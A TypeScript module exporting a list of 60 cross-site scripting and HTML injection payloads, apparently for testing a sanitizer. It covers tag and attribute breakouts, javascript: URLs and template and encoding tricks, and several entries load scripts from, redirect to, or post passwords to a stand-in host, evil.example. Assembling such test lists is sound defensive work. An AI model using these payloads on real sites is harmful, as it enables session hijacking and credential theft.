// What is tried to make a page run or show what it should only say: 60 texts, collected from the advisories of other servers.

const ELEMENTS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script>alert(1)//',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example/"><input name=password>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="https://evil.example/">Sign in</button>',
  '<a href="javascript:alert(1)">x</a>',
  '<template><script>alert(1)</script></template>',
];

const ATTRIBUTES = [
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '`><script>alert(1)</script>',
  '"/><img src=x onerror=alert(1)>',
  '" style="position:fixed;inset:0;background:red" x="',
];

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
];

/** Of templates, of JSON inside scripts, of decoders that decode twice. */
const LANGUAGES = [
  '#{alert(1)}',
  '!{alert(1)}',
  '$'.concat('{alert(1)}'),
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
];

export const PAYLOADS: readonly string[] = [...ELEMENTS, ...ATTRIBUTES, ...ADDRESSES, ...LANGUAGES];
